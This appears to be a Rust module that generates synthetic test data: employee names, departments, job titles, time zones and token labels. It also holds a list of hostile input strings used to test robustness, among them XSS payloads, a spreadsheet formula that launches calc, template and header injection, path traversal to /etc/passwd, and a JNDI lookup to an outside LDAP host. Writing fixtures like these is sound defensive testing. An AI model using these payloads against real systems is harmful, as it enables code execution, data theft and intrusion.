//! The texts that the organisation is made of: names of people, and texts made to do harm.

use super::random::Random;

/// First names, with the spelling that an address takes.
#[rustfmt::skip]
pub(super) const FIRST: &[(&str, &str)] = &[
    ("Abena", "abena"), ("Aiko", "aiko"), ("Alma", "alma"), ("Anders", "anders"), ("Anaïs", "anais"),
    ("Arjun", "arjun"), ("Astrid", "astrid"), ("Bao", "bao"), ("Beatriz", "beatriz"), ("Björn", "bjorn"),
    ("Carmen", "carmen"), ("Chidi", "chidi"), ("Chiara", "chiara"), ("Dalia", "dalia"), ("Daniel", "daniel"),
    ("Dilnoza", "dilnoza"), ("Efua", "efua"), ("Eleni", "eleni"), ("Emeka", "emeka"), ("Esther", "esther"),
    ("Farid", "farid"), ("Fionn", "fionn"), ("Freya", "freya"), ("Goran", "goran"), ("Hana", "hana"),
    ("Helmi", "helmi"), ("Hugo", "hugo"), ("Ines", "ines"), ("Isak", "isak"), ("Ivana", "ivana"),
    ("Jamal", "jamal"), ("Joana", "joana"), ("Jonas", "jonas"), ("Kaede", "kaede"), ("Karim", "karim"),
    ("Katja", "katja"), ("Kofi", "kofi"), ("Laila", "laila"), ("Lars", "lars"), ("Leonie", "leonie"),
    ("Łucja", "lucja"), ("Mads", "mads"), ("Malik", "malik"), ("Marta", "marta"), ("Mei", "mei"),
    ("Milan", "milan"), ("Mireille", "mireille"), ("Nadia", "nadia"), ("Niamh", "niamh"), ("Nuno", "nuno"),
    ("Oksana", "oksana"), ("Olu", "olu"), ("Otto", "otto"), ("Pilar", "pilar"), ("Priya", "priya"),
    ("Ravi", "ravi"), ("Renée", "renee"), ("Rosa", "rosa"), ("Sami", "sami"), ("Sanne", "sanne"),
    ("Soren", "soren"), ("Tariq", "tariq"), ("Tuva", "tuva"), ("Uma", "uma"), ("Viktor", "viktor"),
    ("Wanjiru", "wanjiru"), ("Yara", "yara"), ("Yusuf", "yusuf"), ("Zofia", "zofia"), ("Zuri", "zuri"),
];

/// Last names, with the spelling that an address takes.
#[rustfmt::skip]
pub(super) const LAST: &[(&str, &str)] = &[
    ("Abrahamsen", "abrahamsen"), ("Adeyemi", "adeyemi"), ("Albrecht", "albrecht"), ("Almeida", "almeida"),
    ("Amsel", "amsel"), ("Baptiste", "baptiste"), ("Barlow", "barlow"), ("Bergström", "bergstrom"),
    ("Boateng", "boateng"), ("Brandt", "brandt"), ("Castellanos", "castellanos"), ("Cerny", "cerny"),
    ("Chaudhry", "chaudhry"), ("Cortez", "cortez"), ("Dahl", "dahl"), ("D'Amico", "damico"),
    ("Desrosiers", "desrosiers"), ("Dlamini", "dlamini"), ("Eriksen", "eriksen"), ("Farrell", "farrell"),
    ("Fontaine", "fontaine"), ("Gallo", "gallo"), ("Gebreselassie", "gebreselassie"), ("Haddad", "haddad"),
    ("Halloran", "halloran"), ("Hoang", "hoang"), ("Horvat", "horvat"), ("Ishida", "ishida"),
    ("Iversen", "iversen"), ("Jankowski", "jankowski"), ("Kaplan", "kaplan"), ("Kask", "kask"),
    ("Kovács", "kovacs"), ("Kuznetsova", "kuznetsova"), ("Lindgren", "lindgren"), ("Lombardi", "lombardi"),
    ("Macharia", "macharia"), ("Maddox", "maddox"), ("Menon", "menon"), ("Mokoena", "mokoena"),
    ("Moreau", "moreau"), ("Nakagawa", "nakagawa"), ("Nwosu", "nwosu"), ("O'Keefe", "okeefe"),
    ("Olsson", "olsson"), ("Oyelaran", "oyelaran"), ("Papadakis", "papadakis"), ("Petrescu", "petrescu"),
    ("Pham", "pham"), ("Quispe", "quispe"), ("Rahimi", "rahimi"), ("Reyes", "reyes"),
    ("Rosenthal", "rosenthal"), ("Sandoval", "sandoval"), ("Savić", "savic"), ("Schreiber", "schreiber"),
    ("Shah", "shah"), ("Sørensen", "sorensen"), ("Tanaka", "tanaka"), ("Teixeira", "teixeira"),
    ("Thorne", "thorne"), ("Uddin", "uddin"), ("Valdés", "valdes"), ("van der Meer", "vandermeer"),
    ("Virtanen", "virtanen"), ("Wachira", "wachira"), ("Whitlock", "whitlock"), ("Yamamoto", "yamamoto"),
    ("Yildiz", "yildiz"), ("Zeller", "zeller"),
];

/// Departments: each is a group that the identity provider keeps.
pub(super) const DEPARTMENTS: &[&str] = &[
    "engineering",
    "manufacturing",
    "quality",
    "sales",
    "service",
    "finance",
    "people",
    "it",
];

/// Job titles.
pub(super) const JOBS: &[&str] = &[
    "Engineer",
    "Technician",
    "Buyer",
    "Planner",
    "Analyst",
    "Team lead",
    "Accountant",
    "Designer",
    "Field engineer",
    "Support specialist",
];

/// Time zones of people.
pub(super) const TIME_ZONES: &[&str] = &[
    "Europe/Oslo",
    "Europe/Lisbon",
    "Europe/Warsaw",
    "America/Toronto",
    "Asia/Singapore",
    "Africa/Nairobi",
];

/// What owners call their API tokens.
pub(super) const TOKEN_LABELS: &[&str] = &[
    "ci-deploy",
    "jira export",
    "laptop script",
    "release notes",
    "dashboard feed",
    "backup job",
    "asset sync",
    "time sheet",
    "test runner",
    "wiki publisher",
];

/// Texts that break a page, a spreadsheet, a terminal or a template that trusts its input.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "Nul\u{0}, bell\u{7}, \u{1b}[31mred\u{1b}[0m\nsecond line\r\n\tthird",
    "\u{202e}nimda gro\u{202c} \u{2066}isolated\u{2069} \u{200f}mark",
    "{{ 7*7 }}",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "`code` and ``` fence",
    "👩\u{200d}🚀 Rocket 🏳\u{fe0f}\u{200d}🌈",
    "Z\u{351}\u{36b}\u{343}a\u{300}\u{301}\u{302}l\u{489}g\u{327}o\u{335}",
    "<img src=x onerror=alert(2)>",
    "+49 30 123456",
    "-2+3",
    "@SUM(A1:A9)",
    "[click](javascript:alert(3))",
    "]]>&lt;!-- \"double\" 'single' \\back\\",
    "{% for i in range(99999) %}x{% endfor %}",
    "%0d%0aSet-Cookie: a=b",
    "../../../../etc/passwd",
    "\u{feff}zero\u{200b}width\u{2028}line separator",
    "${jndi:ldap://198.51.100.9/a}",
];

/// A name of 300 characters in one word, so that nothing wraps by luck.
pub(super) fn name_of_300_characters() -> String {
    "Wolfeschlegelsteinhausen"
        .chars()
        .cycle()
        .take(300)
        .collect()
}

/// A person's name and the local part of an address, which is not yet unique.
pub(super) fn person(random: &mut Random) -> (String, String) {
    let (first, first_ascii) = random.pick(FIRST);
    let (last, last_ascii) = random.pick(LAST);
    (
        format!("{first} {last}"),
        format!("{first_ascii}.{last_ascii}"),
    )
}
